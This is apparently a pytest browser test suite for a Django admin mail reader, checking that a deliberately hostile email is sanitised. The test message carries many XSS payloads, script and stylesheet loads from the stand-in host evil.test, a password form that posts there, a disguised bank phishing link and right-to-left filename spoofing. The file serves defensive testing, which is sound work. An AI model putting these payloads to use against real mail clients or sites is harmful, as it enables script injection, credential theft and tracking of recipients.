"""Reading hostile mail in a real browser: nothing runs, nothing is loaded from others, nothing leaves its place."""

from base64 import b64decode
from collections.abc import Iterator
from contextlib import contextmanager
from email.message import EmailMessage
from email.policy import SMTP
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from django.test import Client
from django.urls import reverse

from accounts import provisioning
from accounts.models import AuditEvent
from mailstore.models import Message
from tests.browser.looking import browser, expect, look, needs_chromium
from tests.fixtures import Customer
from tests.mailstore import post

pytestmark = [
    needs_chromium,
    pytest.mark.django_db(transaction=True),
]
SIZES = [(1280, 900), (390, 844)]

EVIL = "https://evil.test"
HOSTILE = f"""
<base href="{EVIL}/"><meta http-equiv="refresh" content="0;url={EVIL}/refresh">
<link rel="stylesheet" href="{EVIL}/a.css"><link rel="prefetch" href="{EVIL}/p">
<link rel="dns-prefetch" href="{EVIL}">
<style>@import "{EVIL}/b.css"; body {{ background: url({EVIL}/c.png) }}
@font-face {{ font-family: x; src: url({EVIL}/f) }}</style>
<script>alert(1)</script><script src="{EVIL}/s.js"></script>
<body onload="alert(2)" background="{EVIL}/d.png">
<p style="background-image:url({EVIL}/e.png);position:fixed;inset:0">Words that stay</p>
<img src=x onerror="alert(3)"><img src="{EVIL}/pixel.png" alt="A picture"><img srcset="{EVIL}/2x.png 2x">
<svg onload="alert(4)"><script>alert(5)</script><image href="{EVIL}/i.png"/><use href="{EVIL}/u.svg#x"/></svg>
<math><mtext></table><mglyph><style><img src=x onerror=alert(6)></style></mglyph></mtext></math>
<iframe srcdoc="<script>parent.alert(7)</script>"></iframe><iframe src="{EVIL}/frame"></iframe>
<object data="{EVIL}/o.swf"></object><embed src="{EVIL}/e.swf">
<video src="{EVIL}/v" poster="{EVIL}/v.png" autoplay></video><audio src="{EVIL}/a" autoplay></audio>
<form action="{EVIL}/form"><input name="password" type="password" autofocus onfocus="alert(8)">
<button>Send</button></form>
<a href="javascript:alert(9)">A script</a> <a href="https://bank.test@evil.test/login" target="_top">bank.test</a>
<a href="data:text/html,<script>alert(10)</script>">Data</a>
<table background="{EVIL}/t.png"><tr><td width="3000">Wide</td></tr></table>
<img src="cid:logo" alt="Logo"><img src="cid:svg" alt="Drawing">
<div><template><script>alert(11)</script></template><noscript><img src="{EVIL}/n.png"></noscript></div>
"""
PNG = b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(12)"><image href="https://evil.test/s.png"/></svg>'


def hostile() -> bytes:
    """A message that tries everything."""
    message = EmailMessage(policy=SMTP)
    message["From"] = '"><img src=x onerror=alert(20)> <a@evil.test>'
    message["To"] = "an@acme.test, " + "x" * 300 + "@acme.test"
    message["Subject"] = "<script>alert(21)</script> {{7*7}} \u202egpj.exe " + "x" * 120
    message["X-<b>"] = "not a field"
    message["X-Evil"] = "</td></table><script>alert(22)</script>"
    message.set_content(
        "Chào bạn\n</section><script>alert(23)</script>\n<img src=x onerror=alert(24)>\n"
        f"{EVIL}/text\n\u202etxet desrever\n" + "x" * 2000 + "\n"
    )
    message.add_alternative(HOSTILE, subtype="html")
    html: Any = message.get_payload()[1]  # type: ignore[index]
    html.add_related(PNG, "image", "png", cid="<logo>", filename='"><script>alert(25)</script>.png')
    html.add_related(SVG, "image", "svg+xml", cid="<svg>", filename="drawing.svg")
    name = "gpj\u202e<img src=x onerror=alert(27)>.html"
    message.add_attachment(b"<script>alert(26)</script>", maintype="text", subtype="html", filename=name)
    return message.as_bytes()


@pytest.fixture
def message(acme: Customer) -> Message:
    """What a tenant's admin is sent."""
    [stored] = post.fill(acme.mailbox, [hostile()])
    return stored


@pytest.fixture
def reader(acme: Customer) -> str:
    """The session of acme's admin."""
    signed_in = Client()
    signed_in.force_login(provisioning.add_staff("boss@acme.test", password=None, tenant=acme.tenant))
    return signed_in.cookies["sessionid"].value


class Watched:
    """A page of which every request and dialog is seen; those to others fail."""

    def __init__(self, page: Any, live_server: Any, session: str) -> None:
        self.page = page
        self.url = live_server.url
        self.asked: list[str] = []
        self.dialogs: list[str] = []
        page.context.add_cookies([{"name": "sessionid", "value": session, "url": self.url}])
        page.context.route("**/*", self._route)
        page.on("dialog", self._dismiss)
        page.context.on("page", lambda opened: self.asked.append(f"a window: {opened.url}"))

    def _dismiss(self, dialog: Any) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def _route(self, route: Any) -> None:
        url = route.request.url
        if urlsplit(url).netloc == urlsplit(self.url).netloc or url.startswith("data:"):
            route.continue_()
        else:
            self.asked.append(url)
            route.abort()

    def check(self) -> None:
        """Nobody else was asked for anything, and nothing ran."""
        assert self.asked == []
        assert self.dialogs == []


@contextmanager
def watched(live_server: Any, session: str, size: tuple[int, int]) -> Iterator[Watched]:
    """A browser in which somebody has signed in, and in which nothing may have happened at the end."""
    with browser(*size) as page:
        watched = Watched(page, live_server, session)
        yield watched
        watched.check()


def _corner(page: Any) -> tuple[float, float]:
    """Where the frame begins, once it can be seen."""
    frame = page.locator("iframe.reading-frame")
    frame.scroll_into_view_if_needed()
    box = frame.bounding_box()
    return box["x"], box["y"]


def _place(page: Any, of: Any) -> tuple[float, float]:
    """Where the middle of something stands in the frame."""
    left, top = _corner(page)
    box = of.bounding_box()
    return box["x"] + box["width"] / 2 - left, box["y"] + box["height"] / 2 - top


@pytest.mark.parametrize("size", SIZES)
def test_hostile_mail_is_read_and_nothing_happens(
    live_server: Any, reader: str, message: Message, size: tuple[int, int]
) -> None:
    with watched(live_server, reader, size) as seen:
        _read(seen, message)
    found = AuditEvent.objects.filter(action="message.read").order_by("pk")
    assert [event.changes["what"] for event in found] == ["text", "html", "html", "source", "attachment"]


def _read(seen: Watched, message: Message) -> None:
    page = seen.page
    page.goto(seen.url + reverse("admin:mailstore_message_changelist"))
    page.get_by_text("<script>alert(21)</script>").first.wait_for()
    page.goto(seen.url + reverse("admin:mailstore_message_change", args=[message.pk]))
    read = page.get_by_role("link", name="Read", exact=True)
    if page.viewport_size["width"] < 1024:  # links of a page stand in a menu there
        page.locator("a[href='#']").filter(has_text="more_horiz").click()
    read.click()

    text = page.get_by_role("region", name="Text")
    expect(text).to_contain_text("<script>alert(23)</script>")
    page.wait_for_load_state()
    assert "\u202e" not in page.content()
    page.get_by_text("All fields of its header").click()
    expect(page.get_by_text("</td></table><script>alert(22)</script>")).to_be_visible()
    look(page, "reading-text")

    page.get_by_role("link", name="As its sender laid it out").click()
    frame = page.frame_locator("iframe.reading-frame")
    frame.get_by_text("Words that stay").wait_for()
    page.wait_for_load_state()
    assert frame.locator("script, style:not(head style), svg, form, iframe, object, embed, link, base").count() == 0
    [logo] = frame.locator("img[src]").all()
    assert logo.evaluate("image => [image.alt, image.naturalWidth]") == ["Logo", 1]
    link = frame.get_by_text("bank.test", exact=True)
    assert (link.get_attribute("href"), link.get_attribute("title")) == (None, "https://bank.test@evil.test/login")
    assert link.get_attribute("data-host") == "evil.test"
    places = [_place(page, one) for one in (link, frame.get_by_text("A script"))]
    page.reload()  # playwright has scripts of its own in a frame that it looked into
    for x, y in places:
        left, top = _corner(page)
        page.mouse.click(left + x, top + y)
    page.wait_for_timeout(500)
    assert [urlsplit(one.url).path for one in page.frames] == [urlsplit(page.url).path] * 2
    look(page, "reading-html")

    with page.expect_download() as download:
        page.get_by_role("link", name="Download the source").click()
    assert Path(download.value.path()).stat().st_size == message.octets
    assert download.value.suggested_filename == f"{message.pk}.eml"
    with page.expect_download() as download:
        page.get_by_role("link", name="onerror=alert(27)").click()
    assert Path(download.value.path()).read_bytes().strip() == b"<script>alert(26)</script>"
    assert "\u202e" not in download.value.suggested_filename


@pytest.mark.parametrize("size", SIZES)
def test_the_frame_is_as_tight_by_itself(
    live_server: Any, reader: str, message: Message, size: tuple[int, int]
) -> None:
    with watched(live_server, reader, size) as seen:
        seen.page.goto(f"{seen.url}{reverse('admin:mailstore_message_read', args=[message.pk])}?frame=")
        seen.page.get_by_text("Words that stay").wait_for()
        assert seen.page.evaluate("self.origin") == "null"
        seen.page.wait_for_timeout(300)


def test_a_program_in_the_frame_would_not_run(
    live_server: Any, reader: str, message: Message, monkeypatch: pytest.MonkeyPatch
) -> None:
    """If ever something got through: the browser has its orders."""
    monkeypatch.setattr("mailstore.reading.frame", lambda *given, **more: HOSTILE)
    with pytest.raises(AssertionError, match=r"Content Security Policy|sandbox"), browser(1280, 900) as page:
        watched = Watched(page, live_server, reader)
        page.goto(f"{watched.url}{reverse('admin:mailstore_message_read', args=[message.pk])}?show=html")
        page.frame_locator("iframe").get_by_text("Words that stay").wait_for()
        page.wait_for_timeout(500)
        assert watched.dialogs == []
        assert [url for url in watched.asked if "/refresh" not in url] == []
